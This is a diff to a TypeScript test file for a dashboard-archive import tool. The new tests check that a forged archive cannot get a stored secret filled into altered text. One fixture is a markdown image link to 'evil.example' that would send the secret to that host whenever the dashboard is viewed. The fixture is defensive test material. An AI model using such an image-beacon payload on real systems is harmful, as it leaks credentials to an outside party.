@@ -4,6 +4,9 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { openArchive } from "../../src/archive/reader.ts";
 import { startSandbox } from "../../src/sandbox/start-sandbox.ts";
 import type { Sandbox } from "../../src/sandbox/start-sandbox.ts";
+import type { JsonObject } from "../../src/core/json.ts";
+import type { StackRecord } from "../../src/core/record.ts";
+import { readArchive, writeArchive } from "../support/archive-samples.ts";
 import { readSandbox } from "../support/read-sandbox.ts";
 import { documentOf, runCli } from "../support/run-cli.ts";
 import type { CliRun } from "../support/run-cli.ts";
@@ -88,7 +91,16 @@ describe("import", () => {
   it("blocks what has a placeholder (exit 3), and drafts a file for its owner only", async () => {
     const args = ["import", "a.zip", "--to", target.stack, "--write-fill", "fill.yaml", "--json"];
     const document = documentOf(await run(...args));
-    expect(document).toMatchObject({ exitCode: 3, toFill: [{ name: "Runbook", pointer: "/tiles/0/config/markdown" }] });
+    expect(document).toMatchObject({
+      exitCode: 3,
+      toFill: [
+        {
+          name: "Runbook",
+          pointer: "/tiles/0/config/markdown",
+          around: ["admin, password: «redacted:assigned-secret», then see the wiki"],
+        },
+      ],
+    });
     expect(document["outcomes"]).toContainEqual(expect.objectContaining({ action: "blocked", code: "redacted" }));
     expect((await stat(join(cwd, "fill.yaml"))).mode & 0o777).toBe(0o600);
     expect((await run("import", "a.zip", "--to", target.stack, "--dry-run")).stdout).toContain("--write-fill");
@@ -145,5 +157,80 @@ describe("import", () => {
     });
     expect(documentOf(await runCli(args, common))).toMatchObject({ exitCode: 0 });
     expect(await notesOf(fresh)).toHaveLength(1);
+  });
+});
+
+describe("an archive that was changed after its fill file was answered", () => {
+  const hostile = "![](https://evil.example/p.png?k=«redacted:assigned-secret»)";
+  let stranger: Sandbox;
+  let fill: string;
+
+  /** The archive as a stranger would make it: another text where the answer goes, everything else in order. */
+  async function forge(name: string, markdown: string, isListed: boolean): Promise<void> {
+    await using reader = await openArchive(join(cwd, "a.zip"));
+    const records = await readArchive(join(cwd, "a.zip"));
+    const forged = records.map((record): StackRecord => {
+      if (record.kind !== "dashboards") return record;
+      const tiles = (record.body["tiles"] as JsonObject[]).map((tile) => ({
+        ...tile,
+        config: { ...(tile["config"] as JsonObject), markdown },
+      }));
+      return { ...record, body: { ...record.body, tiles } };
+    });
+    const { createdAt, createdBy, source: from, kinds, redactions } = reader.manifest;
+    const header = { createdAt, createdBy, source: from, kinds, warnings: [], redactions: isListed ? redactions : [] };
+    await writeArchive({ path: join(cwd, name), format: "zip" }, forged, header);
+  }
+
+  beforeAll(async () => {
+    stranger = await startSandbox({ variant: "self-hosted", seed: "bare" });
+    env = { ...env, ...sandboxEnv(source, stranger) };
+    fill = await readFile(join(cwd, "fill.yaml"), "utf8");
+  });
+
+  afterAll(() => stranger.close());
+
+  it("gets nothing, and says who would get it", async () => {
+    await forge("evil.zip", hostile, true);
+    const args = ["import", "evil.zip", "--to", stranger.stack, "--fill", "fill.yaml"];
+    const refused = documentOf(await run(...args, "--json"));
+    expect(refused).toMatchObject({ exitCode: 3, toFill: [{ around: [`evil.example: ${hostile}`] }] });
+    expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "fill-context-changed" }));
+    expect(refused["warnings"]).toContainEqual(expect.objectContaining({ code: "placeholder-in-image" }));
+    expect(await notesOf(stranger)).toEqual([]);
+    const shown = await run(...args, "--dry-run", "--report", "evil.html");
+    expect(shown.stdout).toContain(`evil.example: ${hostile}`);
+    expect(shown.stderr).toMatch(/warning: .*everybody who looks at it sends the secret there \(evil\.example\)/);
+    expect(await readFile(join(cwd, "evil.html"), "utf8")).toContain("evil.example: ![](");
+  });
+
+  it("is drafted anew beside the old answer, which goes on being used for the old text alone", async () => {
+    await run("import", "evil.zip", "--to", stranger.stack, "--fill", "fill.yaml", "--write-fill", "fill.yaml");
+    const draft = await readFile(join(cwd, "fill.yaml"), "utf8");
+    expect(draft).toContain(`# evil.example: ${hostile}`);
+    expect(draft).toContain("${env:RUNBOOK_PASSWORD}");
+    expect(await notesOf(stranger)).toEqual([]);
+    const done = await run("import", "a.zip", "--to", stranger.stack, "--fill", "fill.yaml", "--yes");
+    expect(done.exitCode).toBe(0);
+    expect(await notesOf(stranger)).toEqual([`# Login\n\nadmin, password: ${FILLED}, then see the wiki`]);
+  });
+
+  it("gets nothing either where its manifest lists no redaction", async () => {
+    await using other = await startSandbox({ variant: "self-hosted", seed: "bare" });
+    await forge("unlisted.zip", "# Login\n\nadmin, password: «redacted:assigned-secret», then see the wiki", false);
+    const args = ["import", "unlisted.zip", "--to", other.stack, "--fill", "fill.yaml", "--json"];
+    const refused = documentOf(await runCli(args, { cwd, env: { ...env, ...sandboxEnv(source, other) } }));
+    expect(refused).toMatchObject({ exitCode: 3, toFill: [] });
+    expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "placeholder-unlisted" }));
+    expect(await notesOf(other)).toEqual([]);
+  });
+
+  it("is not filled in by lines without a context", async () => {
+    await using other = await startSandbox({ variant: "self-hosted", seed: "bare" });
+    await writeFile(join(cwd, "old.yaml"), fill.replace(/^\s+context:.*\n/m, ""));
+    const args = ["import", "a.zip", "--to", other.stack, "--fill", "old.yaml", "--json"];
+    const refused = documentOf(await runCli(args, { cwd, env: { ...env, ...sandboxEnv(source, other) } }));
+    expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "fill-context-changed" }));
+    expect(await notesOf(other)).toEqual([]);
   });
 });
